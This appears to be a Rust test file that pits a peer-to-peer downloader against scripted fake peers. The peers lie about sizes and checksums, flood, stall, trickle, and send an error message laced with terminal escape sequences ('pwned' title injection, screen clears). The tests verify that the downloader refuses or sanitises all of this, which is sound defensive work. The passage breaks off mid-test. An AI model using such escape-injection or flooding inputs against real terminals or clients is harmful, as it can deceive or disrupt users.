//! The downloader against lying peers and hostile names. Each fake peer is written
//! here by hand: a std listener on a thread that reads `Hello`, answers `Welcome`, and
//! then plays a script: the chunk list (`Chunks` → `ChunkList` + raw digests), the
//! `Get`, and the bytes, each as honestly or as badly as the test wants.
//!
//! A failed download keeps a hidden part file and its state for a resume; what must
//! never happen is a file under the final name that was not verified, or anything
//! written outside the downloads folder.

mod common;

use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::*;
use napster::Error;
use napster::download::{self, Cancel, Downloaded};

use napster::protocol::{self, ErrorCode, Hit, PeerRequest, PeerResponse};
use sha2::{Digest, Sha256};

/// Chunk size of the small multi-chunk files used here (1 MiB).
const CHUNK: usize = protocol::MIN_CHUNK as usize;

/// A file of two chunks, the second one short.
fn two_chunks(seed: u64) -> Vec<u8> {
    let contents = noise(seed, CHUNK + 300_000);
    assert_eq!(protocol::chunk_count(contents.len() as u64), 2);
    contents
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

// ---------------------------------------------------------------------------------------
// Fake peers.

/// The key every fake peer of this file proves.
fn fake_identity() -> napster::identity::Identity {
    static FAKE: std::sync::OnceLock<napster::identity::Identity> = std::sync::OnceLock::new();
    FAKE.get_or_init(|| napster::identity::Identity::generate().unwrap())
        .clone()
}

/// A fake peer serving one connection: it reads `Hello`, answers `Welcome`, and hands
/// the connection to `script`; the handle returns what the script returns.
fn fake_peer<T: Send + 'static>(
    script: impl FnOnce(&mut Raw) -> T + Send + 'static,
) -> (SocketAddr, JoinHandle<T>) {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let addr = listener.local_addr().unwrap();
    let handle = std::thread::spawn(move || {
        let (stream, _) = listener.accept().unwrap();
        let mut raw = Raw::accepted(stream, &fake_identity());
        match raw.recv::<PeerRequest>() {
            PeerRequest::Hello { version } => assert_eq!(version, protocol::VERSION),
            other => panic!("the downloader began with {other:?}"),
        }
        raw.send(&PeerResponse::Welcome {
            version: protocol::VERSION,
        });
        script(&mut raw)
    });
    (addr, handle)
}

/// Read the downloader's `Chunks` request, which must come first and name `name`.
fn expect_chunks_request(raw: &mut Raw, name: &str) {
    match raw.recv::<PeerRequest>() {
        PeerRequest::Chunks { name: asked } => assert_eq!(asked, name),
        other => panic!("expected chunks before anything else, got {other:?}"),
    }
}

/// Answer a `Chunks` request with `ChunkList {size, count}` and then `digests` raw
/// (which the downloader may refuse to read: it may hang up).
fn send_chunk_list(raw: &mut Raw, size: u64, count: u64, digests: &[u8]) {
    raw.send(&PeerResponse::ChunkList { size, count });
    let _ = raw.send_bytes(digests);
}

/// Answer the `Chunks` request for `contents` truthfully.
fn true_chunk_list(raw: &mut Raw, name: &str, contents: &[u8]) {
    expect_chunks_request(raw, name);
    let size = contents.len() as u64;
    send_chunk_list(
        raw,
        size,
        protocol::chunk_count(size),
        &chunk_bytes(contents),
    );
}

/// Read a `Get`, which must name `name`, and return its offset and length.
fn expect_get(raw: &mut Raw, name: &str) -> (u64, Option<u64>) {
    match raw.recv::<PeerRequest>() {
        PeerRequest::Get {
            name: asked,
            offset,
            length,
        } => {
            assert_eq!(asked, name);
            (offset, length)
        }
        other => panic!("expected a get, got {other:?}"),
    }
}

/// Whatever the downloader still sends until it hangs up (within [`WAIT`]).
fn rest_until_hang_up(raw: &mut Raw) -> Vec<PeerRequest> {
    raw.frames_until_closed(WAIT)
        .iter()
        .map(|f| serde_json::from_slice(f).expect("the downloader sent an undecodable frame"))
        .collect()
}

/// An honest peer for `contents` under `name`: the true chunk list, then every `Get`
/// served exactly, until the downloader hangs up. Returns the `(offset, length)` of
/// each `Get`.
fn honest_peer(name: &str, contents: &[u8]) -> (SocketAddr, JoinHandle<Vec<(u64, u64)>>) {
    honest_peer_after(name, contents, None)
}

/// [`honest_peer`], but its first answer to a `Get` waits for `gate` (within [`WAIT`]).
fn honest_peer_after(
    name: &str,
    contents: &[u8],
    gate: Option<std::sync::mpsc::Receiver<()>>,
) -> (SocketAddr, JoinHandle<Vec<(u64, u64)>>) {
    let name = name.to_owned();
    let contents = contents.to_vec();
    fake_peer(move |raw| {
        // Only the source asked first is asked for the chunk list: a gated peer (one of
        // several) may not be.
        if gate.is_none() {
            true_chunk_list(raw, &name, &contents);
        }
        let size = contents.len() as u64;
        let mut gets = Vec::new();
        loop {
            let body = match raw.read_frame() {
                Frame::Body(body) => body,
                Frame::Closed => return gets,
                Frame::TimedOut => panic!("the downloader neither asked nor hung up"),
            };
            let (offset, length) = match serde_json::from_slice(&body).unwrap() {
                PeerRequest::Chunks { .. } if gate.is_some() && gets.is_empty() => {
                    let digests = chunk_bytes(&contents);
                    send_chunk_list(raw, size, protocol::chunk_count(size), &digests);
                    continue;
                }
                PeerRequest::Get {
                    name: asked,
                    offset,
                    length,
                } => {
                    assert_eq!(asked, name);
                    (
                        offset,
                        length.expect("the downloader asks for exact lengths"),
                    )
                }
                other => panic!("expected a get, got {other:?}"),
            };
            assert!(
                offset + length <= size,
                "asked past the end: {offset}+{length}"
            );
            gets.push((offset, length));
            if let Some(gate) = gate.as_ref().filter(|_| gets.len() == 1) {
                let _ = gate.recv_timeout(WAIT);
            }
            raw.send(&PeerResponse::Sending {
                size,
                offset,
                length,
            });
            raw.send_bytes(&contents[offset as usize..(offset + length) as usize])
                .unwrap();
        }
    })
}

/// A peer with the true chunk list that answers the (whole-file) `Get` with `size`,
/// `offset`, `length`, then sends `bytes` and closes. Returns what the downloader sent
/// after the `Get` before it hung up.
fn lying_peer(
    name: &str,
    contents: &[u8],
    (size, offset, length): (u64, u64, u64),
    bytes: Vec<u8>,
) -> (SocketAddr, JoinHandle<Vec<PeerRequest>>) {
    let name = name.to_owned();
    let contents = contents.to_vec();
    fake_peer(move |raw| {
        true_chunk_list(raw, &name, &contents);
        let n = contents.len() as u64;
        assert_eq!(
            expect_get(raw, &name),
            (0, Some(n)),
            "one peer, nothing resumed: the whole file is asked for"
        );
        raw.send(&PeerResponse::Sending {
            size,
            offset,
            length,
        });
        // The downloader may hang up early; that is its right. Then we hang up too (on
        // the sending side), so a downloader still waiting for bytes sees the end.
        let _ = raw.send_bytes(&bytes);
        raw.shutdown_write();
        rest_until_hang_up(raw)
    })
}

fn hit(addr: SocketAddr, name: &str, contents: &[u8]) -> Hit {
    Hit {
        peer_id: 7,
        fingerprint: fake_identity().fingerprint(),
        nickname: None,
        addr,
        reachable: true,
        local: None,
        file: real_entry(name, contents),
        shared_at: 0,
    }
}

/// Download `hit` into `dir`; also returns the bytes the progress callback was told of.
fn fetch(hit: &Hit, dir: &Path) -> (napster::Result<Downloaded>, u64) {
    fetch_with(hit, dir, client_limits())
}

fn fetch_with(
    hit: &Hit,
    dir: &Path,
    limits: protocol::Limits,
) -> (napster::Result<Downloaded>, u64) {
    let received = Arc::new(AtomicU64::new(0));
    let counter = received.clone();
    let progress: Arc<dyn Fn(u64) + Send + Sync> = Arc::new(move |n| {
        counter.fetch_add(n, Ordering::SeqCst);
    });
    let result = smol::block_on(download::download(
        hit,
        dir,
        limits,
        Cancel::default(),
        progress,
    ));
    (result, received.load(Ordering::SeqCst))
}

/// A temporary home with the downloads folder three levels down, so that a name
/// escaping it would land somewhere visible.
struct Home {
    tmp: tempfile::TempDir,
    downloads: PathBuf,
    /// Held by every test but the memory test (see [`ALONE`]).
    _alongside: Option<std::sync::RwLockReadGuard<'static, ()>>,
}

/// The memory test measures the whole process's resident memory, which another test's
/// download (with its own 64 MiB of chunk buffers) would swell: it holds this exclusively,
/// every other test holds it shared through its [`Home`].
static ALONE: std::sync::RwLock<()> = std::sync::RwLock::new(());

fn home() -> Home {
    let guard = ALONE
        .read()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    Home {
        _alongside: Some(guard),
        ..home_alone()
    }
}

fn home_alone() -> Home {
    let tmp = tempfile::tempdir().unwrap();
    let downloads = tmp.path().join("a/b/downloads");
    std::fs::create_dir_all(&downloads).unwrap();
    write_files(
        tmp.path(),
        &[("a/.bashrc", b"# mine\n"), ("a/b/notes.txt", b"mine\n")],
    );
    Home {
        tmp,
        downloads,
        _alongside: None,
    }
}

impl Home {
    /// Everything outside the downloads folder.
    fn outside(&self) -> Vec<(PathBuf, Option<Vec<u8>>)> {
        snapshot(self.tmp.path())
            .into_iter()
            .filter(|(p, _)| !p.starts_with(&self.downloads))
            .collect()
    }

    /// The part file a download of `contents` as `name` keeps.
    fn part(&self, name: &str, contents: &[u8]) -> PathBuf {
        self.downloads
            .join(part_file_name(name, &sha256_hex(contents)))
    }
}

fn assert_nothing_saved(dir: &Path, what: &str) {
    let left = entries_of(dir);
    assert!(
        left.is_empty(),
        "{what}: the downloads folder should be empty, holds {left:?}"
    );
}

/// Assert that nothing a peer sent was written: the part file, if any, is all zeros.
fn assert_part_untouched(part: &Path, what: &str) {
    if let Ok(bytes) = std::fs::read(part) {
        assert!(
            bytes.iter().all(|&b| b == 0),
            "{what}: bytes from the peer were written to {}",
            part.display()
        );
    }
}

/// The `outcome` of a checksum mismatch for `contents`, after checking the rest of it.
fn mismatch_outcome(result: &napster::Result<Downloaded>, contents: &[u8]) -> String {
    match result {
        Err(Error::ChecksumMismatch {
            expected, outcome, ..
        }) => {
            assert_eq!(expected, &sha256_hex(contents));
            outcome.clone()
        }
        other => panic!("expected a checksum mismatch, got {other:?}"),
    }
}

fn message(result: &napster::Result<Downloaded>) -> String {
    match result {
        Ok(d) => panic!("the download succeeded: {d:?}"),
        Err(e) => e.to_string(),
    }
}

// ---------------------------------------------------------------------------------------
// Lying about the bytes.

#[test]
fn a_peer_sending_fewer_bytes_than_announced_keeps_a_hidden_part_that_get_resumes() {
    let home = home();
    let before = home.outside();
    let contents = two_chunks(1);
    let n = contents.len() as u64;
    // All of the first chunk and a bit of the second, then the peer hangs up.
    let (addr, peer) = lying_peer(
        "short.bin",
        &contents,
        (n, 0, n),
        contents[..CHUNK + 40_000].to_vec(),
    );
    let (result, _) = fetch(&hit(addr, "short.bin", &contents), &home.downloads);
    let message = message(&result);
    assert!(
        message.contains("run get again to resume"),
        "a truncated download: {message}"
    );
    assert!(peer.join().unwrap().is_empty());
    assert_only_resume_files(&home.downloads, "short.bin", "short");
    let part = part_file_name("short.bin", &sha256_hex(&contents));
    assert_eq!(
        entries_of(&home.downloads),
        [part.clone(), format!("{part}.state")]
    );

    // `get` again, from an honest peer: only the missing chunk is asked for.
    let (addr, peer) = honest_peer("short.bin", &contents);
    let (result, _) = fetch(&hit(addr, "short.bin", &contents), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("resuming: {e}"));
    assert_eq!(peer.join().unwrap(), [(CHUNK as u64, n - CHUNK as u64)]);
    assert_eq!(downloaded.resumed, CHUNK as u64);
    assert_eq!(downloaded.path, home.downloads.join("short.bin"));
    assert!(std::fs::read(&downloaded.path).unwrap() == contents);
    assert_eq!(entries_of(&home.downloads), ["short.bin"]);
    assert_eq!(home.outside(), before);
}

#[test]
fn a_peer_sending_wrong_bytes_loses_its_corrupt_chunk_and_get_refetches_only_that() {
    let home = home();
    let contents = two_chunks(2);
    let n = contents.len() as u64;
    let mut wrong = contents.clone();
    wrong[CHUNK + 25_000] ^= 1;
    let (addr, peer) = lying_peer("wrong.bin", &contents, (n, 0, n), wrong);
    let (result, _) = fetch(&hit(addr, "wrong.bin", &contents), &home.downloads);
    // The chunk list locates the damage: the bad chunk is discarded, the good one kept.
    assert_eq!(
        mismatch_outcome(&result, &contents),
        "1 of 2 chunks were corrupt and were discarded; the good ones are kept, so `get` \
         again (from another peer) fetches only those"
    );
    assert!(peer.join().unwrap().is_empty());
    assert_only_resume_files(&home.downloads, "wrong.bin", "wrong bytes");

    let (addr, peer) = honest_peer("wrong.bin", &contents);
    let (result, _) = fetch(&hit(addr, "wrong.bin", &contents), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("refetching the bad chunk: {e}"));
    assert_eq!(
        peer.join().unwrap(),
        [(CHUNK as u64, n - CHUNK as u64)],
        "only the corrupt chunk is fetched again"
    );
    assert_eq!(downloaded.resumed, CHUNK as u64);
    assert!(std::fs::read(&downloaded.path).unwrap() == contents);
    assert_eq!(entries_of(&home.downloads), ["wrong.bin"]);
}

#[test]
fn a_one_chunk_file_with_a_wrong_byte_is_discarded_whole() {
    let home = home();
    let contents = noise(12, 50_000);
    let n = contents.len() as u64;
    let mut wrong = contents.clone();
    wrong[25_000] ^= 1;
    let (addr, peer) = lying_peer("wrong1.bin", &contents, (n, 0, n), wrong);
    let (result, _) = fetch(&hit(addr, "wrong1.bin", &contents), &home.downloads);
    assert_eq!(
        mismatch_outcome(&result, &contents),
        "all 1 chunks were corrupt and were discarded"
    );
    peer.join().unwrap();
    assert_only_resume_files(&home.downloads, "wrong1.bin", "wrong byte");
}

#[test]
fn a_lying_index_is_a_checksum_mismatch() {
    // The peer and its chunk list agree with the index's `chunks`, but the index's
    // SHA-256 is another file's: every chunk checks out, so it is a plain mismatch.
    let home = home();
    let contents = noise(13, 30_000);
    let (addr, peer) = honest_peer("lie.bin", &contents);
    let mut lie = hit(addr, "lie.bin", &contents);
    let other = sha256_hex(b"something else entirely");
    lie.file.sha256 = other.clone();
    let (result, _) = fetch(&lie, &home.downloads);
    match &result {
        Err(Error::ChecksumMismatch {
            name,
            expected,
            actual,
            outcome,
            ..
        }) => {
            assert_eq!(name, "lie.bin");
            assert_eq!(expected, &other);
            assert_eq!(actual, &sha256_hex(&contents));
            assert!(
                outcome.contains("the index's checksum is wrong"),
                "{outcome}"
            );
        }
        other => panic!("expected a checksum mismatch, got {other:?}"),
    }
    assert_eq!(peer.join().unwrap(), [(0, contents.len() as u64)]);
    assert_only_resume_files(&home.downloads, "lie.bin", "lying index");
}

#[test]

fn a_lying_index_s_mismatch_keeps_nothing_as_it_says() {
    let home = home();
    let contents = noise(16, 30_000);
    let (addr, peer) = honest_peer("lie.bin", &contents);
    let mut lie = hit(addr, "lie.bin", &contents);
    lie.file.sha256 = sha256_hex(b"something else entirely");
    let (result, _) = fetch(&lie, &home.downloads);
    peer.join().unwrap();
    let message = message(&result);
    assert!(message.contains("nothing was kept"), "{message}");
    assert_nothing_saved(&home.downloads, &message);
}

#[test]
fn a_peer_announcing_another_size_is_refused_before_receiving() {
    let contents = noise(3, 10_000);
    let n = contents.len() as u64;
    for size in [n + 1, n - 1, 0, u64::MAX] {
        let home = home();
        let (addr, peer) = lying_peer("size.bin", &contents, (size, 0, size), contents.clone());
        let (result, received) = fetch(&hit(addr, "size.bin", &contents), &home.downloads);
        assert!(result.is_err(), "size {size} accepted: {result:?}");
        assert_eq!(received, 0, "size {size}: bytes were received");
        assert!(peer.join().unwrap().is_empty());
        assert_only_resume_files(&home.downloads, "size.bin", &format!("size {size}"));
        assert_part_untouched(&home.part("size.bin", &contents), &format!("size {size}"));
    }
}

#[test]
fn a_peer_announcing_a_length_other_than_the_file_s_is_refused_before_receiving() {
    // The right size, but another offset or length than asked: a peer that announces
    // more than the index's size must not get to fill the disk with it.
    let contents = noise(4, 16);
    let n = contents.len() as u64;
    let flood = 8 << 20;
    let mut bytes = contents.clone();
    bytes.resize(flood, 0);
    for (offset, length) in [
        (0, flood as u64),
        (0, u64::MAX),
        (0, n - 1),
        (0, 0),
        (1, n - 1),
        (1, n),
        (n, 0),
    ] {
        let what = format!("offset {offset}, length {length}");
        let home = home();
        let (addr, peer) = lying_peer("flood.bin", &contents, (n, offset, length), bytes.clone());
        let (result, received) = fetch(&hit(addr, "flood.bin", &contents), &home.downloads);
        assert!(result.is_err(), "{what} was accepted: {result:?}");
        assert_eq!(
            received, 0,
            "{what}: the downloader received {received} bytes"
        );
        assert!(peer.join().unwrap().is_empty(), "{what}");
        assert_only_resume_files(&home.downloads, "flood.bin", &what);
        assert_part_untouched(&home.part("flood.bin", &contents), &what);
    }
}

#[test]
fn an_error_instead_of_the_bytes_is_refused() {
    let contents = noise(14, 1000);
    let home = home();
    let (addr, peer) = fake_peer({
        let contents = contents.clone();
        move |raw| {
            true_chunk_list(raw, "gone.bin", &contents);
            expect_get(raw, "gone.bin");
            raw.send(&PeerResponse::Error {
                code: ErrorCode::NotFound,
                message: "\u{1b}[2Jgone".into(),
            });
            rest_until_hang_up(raw)
        }
    });
    let (result, received) = fetch(&hit(addr, "gone.bin", &contents), &home.downloads);
    assert!(result.is_err(), "{result:?}");
    assert_eq!(received, 0);
    assert!(peer.join().unwrap().is_empty());
    assert_only_resume_files(&home.downloads, "gone.bin", "error reply");
}

#[test]

fn a_peer_s_error_message_reaches_the_error_cleaned_and_bounded() {
    // Whether it refuses the hello, the chunk list or the get, a hostile peer's message
    // ends up in the error the shell prints: it must carry no control characters (no
    // terminal escapes) and stay short.
    let contents = noise(17, 1000);
    let hostile = format!("\u{1b}]0;pwned\u{7}\u{1b}[2J\r\u{8}{}", "A".repeat(60_000));
    for refused_at in ["hello", "chunks", "get"] {
        let home = home();
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let addr = listener.local_addr().unwrap();
        let file = contents.clone();
        let text = hostile.clone();
        let peer = std::thread::spawn(move || {
            let (stream, _) = listener.accept().unwrap();
            let mut raw = Raw::accepted(stream, &fake_identity());
            let _ = raw.recv::<PeerRequest>();
            if refused_at != "hello" {
                raw.send(&PeerResponse::Welcome {
                    version: protocol::VERSION,
                });
                if refused_at == "chunks" {
                    expect_chunks_request(&mut raw, "msg.bin");
                } else {
                    true_chunk_list(&mut raw, "msg.bin", &file);
                    expect_get(&mut raw, "msg.bin");
                }
            }
            raw.send(&PeerResponse::Error {
                code: ErrorCode::NotFound,
                message: text,
            });
            rest_until_hang_up(&mut raw)
        });
        let (result, _) = fetch(&hit(addr, "msg.bin", &contents), &home.downloads);
        let message = message(&result);
        peer.join().unwrap();
        let shown: String = message.chars().take(80).collect();
        assert!(
            !message.chars().any(char::is_control),
            "refused at {refused_at}: control characters reach the error: {shown:?}..."
        );
        assert!(
            message.len() <= 2 * protocol::MAX_TEXT + 512,
            "refused at {refused_at}: a {}-byte error: {shown:?}...",
            message.len()
        );
    }
}

// ---------------------------------------------------------------------------------------
// Lying about the chunk list.

#[test]
fn a_chunk_list_that_does_not_match_the_index_is_refused_before_any_data() {
    let contents = two_chunks(5);
    let n = contents.len() as u64;
    let count = protocol::chunk_count(n);
    let truth = chunk_bytes(&contents);
    let mut flipped = truth.clone();
    flipped[40] ^= 0x80;
    let mut other = contents.clone();
    other[10] ^= 1;
    let other_list = chunk_bytes(&other);
    let bigger = noise(6, contents.len() + 1);
    // (what, size, count, digests) announced in answer to `Chunks`.
    let cases: Vec<(&str, u64, u64, Vec<u8>)> = vec![
        ("another file's list", n, count, other_list),
        ("one bit flipped", n, count, flipped),
        ("all zeros", n, count, vec![0; truth.len()]),
        (
            "one digest too many",
            n,
            count + 1,
            [&truth[..], &truth[..32]].concat(),
        ),
        ("one digest too few", n, count - 1, truth[..32].to_vec()),
        ("an absurd count", n, u64::MAX, truth.clone()),
        ("no digests", n, 0, vec![]),
        ("another size", n + 1, count, chunk_bytes(&bigger)),
        ("size 0", 0, 0, vec![]),
        ("the digests cut short", n, count, truth[..40].to_vec()),
    ];
    for (what, size, count, digests) in cases {
        let home = home();
        let (addr, peer) = fake_peer(move |raw| {
            expect_chunks_request(raw, "list.bin");
            send_chunk_list(raw, size, count, &digests);
            if what == "the digests cut short" {
                // Hang up part-way through the digests.
                return Vec::new();
            }
            rest_until_hang_up(raw)
        });
        let (result, received) = fetch(&hit(addr, "list.bin", &contents), &home.downloads);
        assert!(result.is_err(), "{what}: accepted: {result:?}");
        assert_eq!(received, 0, "{what}: bytes were received");
        let after = peer.join().unwrap();
        assert!(
            after.is_empty(),
            "{what}: the downloader went on with {after:?}"
        );
        assert_only_resume_files(&home.downloads, "list.bin", what);
        assert_part_untouched(&home.part("list.bin", &contents), what);
    }
}

#[test]
fn other_answers_to_chunks_are_refused() {
    let contents = noise(8, 5000);
    let n = contents.len() as u64;
    let answers = [
        PeerResponse::Error {
            code: ErrorCode::NotFound,
            message: "not shared".into(),
        },
        PeerResponse::Sending {
            size: n,
            offset: 0,
            length: n,
        },
        PeerResponse::Pong {},
        PeerResponse::Welcome {
            version: protocol::VERSION,
        },
    ];
    for answer in answers {
        let what = format!("{answer:?}");
        let home = home();
        let bytes = contents.clone();
        let (addr, peer) = fake_peer(move |raw| {
            expect_chunks_request(raw, "other.bin");
            raw.send(&answer);
            // A `Sending` out of turn comes with its bytes.
            let _ = raw.send_bytes(&bytes);
            rest_until_hang_up(raw)
        });
        let (result, received) = fetch(&hit(addr, "other.bin", &contents), &home.downloads);
        assert!(result.is_err(), "{what}: accepted: {result:?}");
        assert_eq!(received, 0, "{what}: bytes were received");
        assert!(peer.join().unwrap().is_empty(), "{what}");
        assert_only_resume_files(&home.downloads, "other.bin", &what);
        assert_part_untouched(&home.part("other.bin", &contents), &what);
    }
}

#[test]

fn a_refusal_of_a_lying_peer_says_what_it_lied_about() {
    // The refusals above happen; their message must not contradict itself by blaming
    // a change of size when the size is right.
    let contents = noise(15, 3000);
    let n = contents.len() as u64;
    let contradiction = format!("{n} bytes but the index says {n}");
    for (what, count, sending) in [
        ("a wrong count", 2, (n, 0, n)),
        ("a wrong length", 1, (n, 0, n + 100)),
        ("a wrong offset", 1, (n, 1, n - 1)),
    ] {
        let home = home();
        let list = chunk_bytes(&contents);
        let (addr, peer) = fake_peer(move |raw| {
            expect_chunks_request(raw, "why.bin");
            send_chunk_list(
                raw,
                n,
                count,
                &[&list[..], &list[..]].concat()[..count as usize * 32],
            );
            if count == 1 {
                expect_get(raw, "why.bin");
                let (size, offset, length) = sending;
                raw.send(&PeerResponse::Sending {
                    size,
                    offset,
                    length,
                });
            }
            rest_until_hang_up(raw)
        });
        let (result, _) = fetch(&hit(addr, "why.bin", &contents), &home.downloads);
        let message = message(&result);
        peer.join().unwrap();
        assert!(
            !message.contains(&contradiction),
            "{what}: the refusal contradicts itself: {message}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Stalling.

#[test]
fn a_stalling_peer_times_out_and_keeps_only_a_hidden_part() {
    let contents = noise(5, 1000);
    let n = contents.len() as u64;
    let limits = protocol::Limits {
        max_frame: protocol::DEFAULT_MAX_FRAME,
        timeout: Duration::from_millis(500),
        ..Default::default()
    };
    // Stalls before its welcome, before the chunk list, half-way through the digests,
    // after announcing the bytes, half-way through them.
    for stall_at in ["welcome", "chunk list", "digests", "sending", "half"] {
        let home = home();
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let addr = listener.local_addr().unwrap();
        let file = contents.clone();
        let peer = std::thread::spawn(move || {
            let (stream, _) = listener.accept().unwrap();
            let mut raw = Raw::accepted(stream, &fake_identity());
            let _ = raw.recv::<PeerRequest>();
            if stall_at != "welcome" {
                raw.send(&PeerResponse::Welcome {
                    version: protocol::VERSION,
                });
                expect_chunks_request(&mut raw, "stall.bin");
            }
            if stall_at == "digests" {
                raw.send(&PeerResponse::ChunkList { size: n, count: 1 });
                raw.send_bytes(&chunk_bytes(&file)[..16]).unwrap();
            }
            if stall_at == "sending" || stall_at == "half" {
                send_chunk_list(&mut raw, n, 1, &chunk_bytes(&file));
                expect_get(&mut raw, "stall.bin");
                raw.send(&PeerResponse::Sending {
                    size: n,
                    offset: 0,
                    length: n,
                });
                if stall_at == "half" {
                    raw.send_bytes(&file[..500]).unwrap();
                }
            }
            // Stall, holding the connection open until the downloader gives up.
            raw.read_timeout(WAIT);
            let mut byte = [0u8; 1];
            let _ = raw.read_exact(&mut byte);
        });
        let started = Instant::now();
        let (result, _) = fetch_with(&hit(addr, "stall.bin", &contents), &home.downloads, limits);
        assert!(result.is_err(), "stalled at {stall_at}: {result:?}");
        assert!(
            started.elapsed() < Duration::from_secs(4),
            "stalled at {stall_at}: gave up only after {:?}",
            started.elapsed()
        );
        peer.join().unwrap();
        assert_only_resume_files(&home.downloads, "stall.bin", stall_at);
    }
}

/// A peer that answers `Chunks` truthfully (if asked) and a `Get` with `Sending`, then
/// trickles the bytes one every 100 ms, each read well within the timeout, until the
/// downloader hangs up. Returns how many bytes it got out.
fn trickling_peer(name: &str, contents: &[u8]) -> (SocketAddr, JoinHandle<u64>) {
    trickling_peer_telling(name, contents, std::sync::mpsc::channel().0)
}

/// [`trickling_peer`], telling `asked` once it has answered the `Get`.
fn trickling_peer_telling(
    name: &str,
    contents: &[u8],
    asked: std::sync::mpsc::Sender<()>,
) -> (SocketAddr, JoinHandle<u64>) {
    let name = name.to_owned();
    let contents = contents.to_vec();
    fake_peer(move |raw| {
        let size = contents.len() as u64;
        let mut request = raw.recv::<PeerRequest>();
        if let PeerRequest::Chunks { .. } = request {
            let digests = chunk_bytes(&contents);
            send_chunk_list(raw, size, protocol::chunk_count(size), &digests);
            request = raw.recv::<PeerRequest>();
        }
        let PeerRequest::Get { offset, length, .. } = request else {
            panic!("expected a get, got {request:?}");
        };
        let length = length.unwrap_or(size - offset);
        raw.send(&PeerResponse::Sending {
            size,
            offset,
            length,
        });
        let _ = asked.send(());
        let mut sent = 0;
        while sent < length {
            let at = (offset + sent) as usize;
            if raw.send_bytes(&contents[at..at + 1]).is_err() {
                break;
            }
            sent += 1;
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = name;
        sent
    })
}

/// Limits with a short timeout, and so a short window for the minimum rate.
fn impatient() -> protocol::Limits {
    protocol::Limits {
        timeout: Duration::from_millis(500),
        ..client_limits()
    }
}

/// Run `job` on a thread and wait for its end, failing the test after `within`.
fn fetch_within(job: download::Job, within: Duration) -> napster::Result<Downloaded> {
    let (done, result) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = done.send(smol::block_on(download::fetch(job)));
    });
    result
        .recv_timeout(within)
        .unwrap_or_else(|_| panic!("the download was still running after {within:?}"))
}

#[test]
fn a_peer_trickling_a_byte_at_a_time_is_dropped_for_its_slowness() {
    let home = home();
    let contents = two_chunks(21);
    let (addr, peer) = trickling_peer("slow.bin", &contents);
    let job = download::Job::new(
        real_entry("slow.bin", &contents),
        vec![hit(addr, "slow.bin", &contents)],
        &home.downloads,
        impatient(),
    );
    let started = Instant::now();
    let result = fetch_within(job, Duration::from_secs(5));
    let message = message(&result);
    assert!(message.contains("too slow"), "{message}");
    assert!(message.contains("protocol.min_rate"), "{message}");
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    assert!(peer.join().unwrap() < 64, "the trickle was cut short");
}

#[test]
fn a_trickling_source_s_chunks_go_to_the_others() {
    let home = home();
    let contents = noise(22, 3 * CHUNK + 1000);
    // The honest peer answers only once the trickler holds a chunk.
    let (asked, gate) = std::sync::mpsc::channel();
    let (slow, trickler) = trickling_peer_telling("shared.bin", &contents, asked);
    let (fast, honest) = honest_peer_after("shared.bin", &contents, Some(gate));
    let mut slow_hit = hit(slow, "shared.bin", &contents);
    slow_hit.peer_id = 1;
    let mut fast_hit = hit(fast, "shared.bin", &contents);
    fast_hit.peer_id = 2;
    let entry = real_entry("shared.bin", &contents);
    let job = download::Job::new(
        entry,
        vec![slow_hit, fast_hit],
        &home.downloads,
        impatient(),
    );
    let done = fetch_within(job, Duration::from_secs(5)).expect("the honest peer delivers");
    assert_eq!(std::fs::read(&done.path).unwrap(), contents);
    assert_eq!(done.peers, vec![2]);
    assert!(trickler.join().unwrap() < 64);
    assert!(!honest.join().unwrap().is_empty());
}

/// This process's resident memory, in bytes.
fn resident() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))
        .expect("VmRSS in /proc/self/status");
    let kib: u64 = line
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .expect("VmRSS in kB");
    kib * 1024
}

#[test]
#[allow(clippy::too_many_lines, reason = "one scenario, read top to bottom")]
fn a_huge_file_from_several_sources_holds_bounded_memory() {
    // "1 TiB" (128 MiB chunks) from three sources, each sending 48 MiB of its first
    // chunk and then waiting: memory must stay within the documented bound, not grow
    // by a chunk per source.
    const SOURCES: usize = 3;
    const SENT: usize = 48 << 20;
    let _alone = ALONE
        .write()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let home = home_alone();
    let size = 1u64 << 40;
    let count = protocol::chunk_count(size);
    let digests: Vec<[u8; 32]> = (0..count)
        .map(|i| Sha256::digest(i.to_be_bytes()).into())
        .collect();
    let entry = protocol::FileEntry {
        tags: None,
        name: "huge.bin".into(),
        size,
        sha256: "ab".repeat(32),
        chunks: protocol::chunks_root(&digests),
    };
    let raw_digests: Vec<u8> = digests.concat();
    let (measured, measured_rx) = std::sync::mpsc::channel::<()>();
    let measured_rx = Arc::new(std::sync::Mutex::new(measured_rx));
    let mut hits = Vec::new();
    let mut peers = Vec::new();
    for id in 0..SOURCES {
        let raw_digests = raw_digests.clone();
        let measured_rx = measured_rx.clone();
        let (addr, peer) = fake_peer(move |raw| {
            let mut request = raw.recv::<PeerRequest>();
            if let PeerRequest::Chunks { .. } = request {
                send_chunk_list(raw, size, count, &raw_digests);
                request = raw.recv::<PeerRequest>();
            }
            let PeerRequest::Get { offset, length, .. } = request else {
                panic!("expected a get, got {request:?}");
            };
            raw.send(&PeerResponse::Sending {
                size,
                offset,
                length: length.unwrap(),
            });
            let block = vec![0x5a; 1 << 20];
            for _ in 0..SENT >> 20 {
                if raw.send_bytes(&block).is_err() {
                    return;
                }
            }
            // Hold the connection until the memory was measured.
            let _ = measured_rx
                .lock()
                .unwrap()
                .recv_timeout(Duration::from_secs(20));
        });
        hits.push(Hit {
